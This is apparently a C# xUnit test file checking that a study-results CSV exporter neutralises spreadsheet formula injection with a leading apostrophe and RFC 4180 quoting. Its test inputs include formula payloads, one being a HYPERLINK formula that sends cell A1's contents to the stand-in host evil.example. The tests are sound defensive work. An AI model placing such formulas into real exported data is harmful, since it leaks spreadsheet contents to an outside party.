using InteractionLab.Api.ConditionResults;
using InteractionLab.Api.Exports;

namespace InteractionLab.Api.Tests.ConditionResults;

/// <summary>
/// A text cell that a spreadsheet would run as a formula is written with a leading apostrophe (OWASP ASVS 5.0 V1.2.10,
/// CWE-1236) by the one CSV cell writer, and results.csv uses it (issue 13 item 10).
/// </summary>
public sealed class CsvFormulaTests
{
    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+41 79 000 00 00", "'+41 79 000 00 00")]
    [InlineData("-3", "'-3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("=HYPERLINK(\"http://x.example\",\"y\")", "\"'=HYPERLINK(\"\"http://x.example\"\",\"\"y\"\")\"")]
    [InlineData("=a,b", "\"'=a,b\"")]
    [InlineData("plain, with comma", "\"plain, with comma\"")]
    [InlineData("a 2-b", "a 2-b")]
    [InlineData("", "")]
    public void ATextCellThatCouldStartAFormulaIsNeutralisedAndQuotedAsRfc4180Says(string text, string written) =>
        Assert.Equal(written, CsvCell.Text(text));

    [Fact]
    public void NumbersAreNeverPrefixedSoANegativeMeanStaysANumber()
    {
        Assert.Equal("-0.5", CsvCell.Number(-0.5));
        Assert.Equal("", CsvCell.Number(double.NaN));
        Assert.Equal("-3", CsvCell.Number(-3L));
    }

    [Fact]
    public void ResultsCsvNeutralisesFormulasInLabelsAndConditionsButKeepsNegativeMeans()
    {
        var metric = new ResultMetric("survey:s/q", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@Ratings", ResultKind.Mean);
        var results = new StudyResults(Guid.NewGuid(), "s", "S", ["-cond"], [2],
            [new ResultRow(metric, [new ResultCell("-cond", 2, -0.5, 0.25)])], new ResultsOptions());

        var lines = StudyResultsApi.ToCsv(results).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("'@Ratings,survey:s/q,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",mean,'-cond,2,-0.5,0.25", lines[1]);
    }
}
